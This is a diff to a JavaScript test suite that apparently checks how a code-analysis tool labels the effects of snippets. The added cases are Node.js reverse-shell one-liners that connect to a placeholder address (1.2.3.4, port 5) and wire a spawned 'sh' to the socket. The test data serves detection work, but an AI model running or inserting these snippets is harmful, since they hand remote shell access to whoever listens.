@@ -113,6 +113,21 @@ describe("commands and effects of JavaScript and TypeScript", () => {
       ":read /a | :send x.example",
     ],
     [
+      "a connection that its own callback uses by name",
+      'const { spawn } = require("child_process");\nconst c = require("net").connect(5, "1.2.3.4", () => { spawn("sh", { stdio: [c, c, c] }); });',
+      "sh",
+      ":fetch '1.2.3.4' | :run sh",
+      ":connect '1.2.3.4' '5'",
+    ],
+    [
+      "what `this` is to a callback",
+      'require("net").connect(5, "1.2.3.4", function () { const p = require("child_process").spawn("sh"); this.pipe(p.stdin); });',
+      "sh",
+      ":fetch '1.2.3.4' | :run sh",
+      ":connect '1.2.3.4' '5'",
+    ],
+    ["how a child's streams are set", 'require("child_process").spawn("sh", [], { stdio: ["pipe", "inherit"] })', "sh"],
+    [
       "a shell on a socket",
       'const net = require("net"), cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); const c = new net.Socket(); c.connect(5, "1.2.3.4", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })',
       "sh",
